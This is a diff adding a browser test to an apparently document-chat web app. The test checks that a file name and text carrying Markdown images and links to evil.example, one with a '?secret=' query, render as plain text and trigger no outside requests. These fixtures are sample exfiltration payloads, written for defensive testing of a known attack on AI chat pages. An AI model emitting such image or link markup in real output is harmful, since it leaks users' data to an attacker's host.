@@ -148,3 +148,61 @@ def test_upload_ask_and_open_a_citation(server: tuple[str, Path], tmp_path: Path
     assert not foreign, f"the page fetched from other hosts: {foreign}"
     attempts = egress_log.read_text().splitlines() if egress_log.exists() else []
     assert not attempts, [json.loads(a)["destination"] for a in attempts]
+
+
+HOSTILE_NAME = "![i](https:evil.example?x).txt"
+HOSTILE_TEXT = (
+    "Parking notice, December 2026.\n\n"
+    "The visitor car park closes at 19:30 on weekdays. "
+    "![pixel](https://evil.example/p.png?secret=parking) "
+    "Visitors must leave by 19:30 or call <https://evil.example/call> to extend.\n"
+)
+
+
+@pytest.mark.skipif(
+    not Path(CHROMIUM).exists(), reason="needs Debian's chromium (make test installs it)"
+)
+def test_hostile_names_and_text_render_inert(server: tuple[str, Path], tmp_path: Path) -> None:
+    """A file name and a document that carry Markdown images and links: the page shows
+    them as text, and the browser fetches nothing from any other host."""
+    from playwright.sync_api import expect, sync_playwright
+
+    url, egress_log = server
+    folder = tmp_path / "shared"
+    folder.mkdir()
+    (folder / HOSTILE_NAME).write_text(HOSTILE_TEXT)
+    requests: list[str] = []
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        page = browser.new_page(viewport={"width": 1280, "height": 900})
+        page.on("request", lambda r: requests.append(r.url))
+        page.set_default_timeout(180_000)
+        expect.set_options(timeout=180_000)
+        page.goto(url)
+        page.get_by_role("link", name="Library").click()
+        page.get_by_role("tab", name="Ingest a folder on this machine").click()
+        page.get_by_placeholder("/srv/shared/contracts").fill(str(folder))
+        page.get_by_role("button", name="Ingest folder").click()
+        expect(page.get_by_text("added 1").first).to_be_visible()
+
+        page.get_by_role("link", name="Chat").click()
+        box = page.get_by_placeholder("Ask a question about your documents")
+        box.fill("When does the visitor car park close?")
+        box.press("Enter")
+        source = page.locator('[data-testid="stExpander"] summary').filter(has_text="evil.example")
+        expect(source.first).to_be_visible()
+        shown = source.first.inner_text().replace("\u200b", "")
+        assert HOSTILE_NAME in shown, "the name shows as it is (zero-width spaces aside)"
+        page.wait_for_timeout(1500)  # time for any image to be requested
+        images = page.locator("img").evaluate_all("els => els.map(e => e.src)")
+        links = page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
+
+        page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
+        browser.close()
+
+    assert not [s for s in images if "evil" in s], images
+    assert not [h for h in links if "evil" in h], links
+    foreign = [u for u in requests if urlsplit(u).hostname not in ("127.0.0.1", "localhost", None)]
+    assert not foreign, f"the page fetched from other hosts: {foreign}"
+    attempts = egress_log.read_text().splitlines() if egress_log.exists() else []
+    assert not attempts, [json.loads(a)["destination"] for a in attempts]
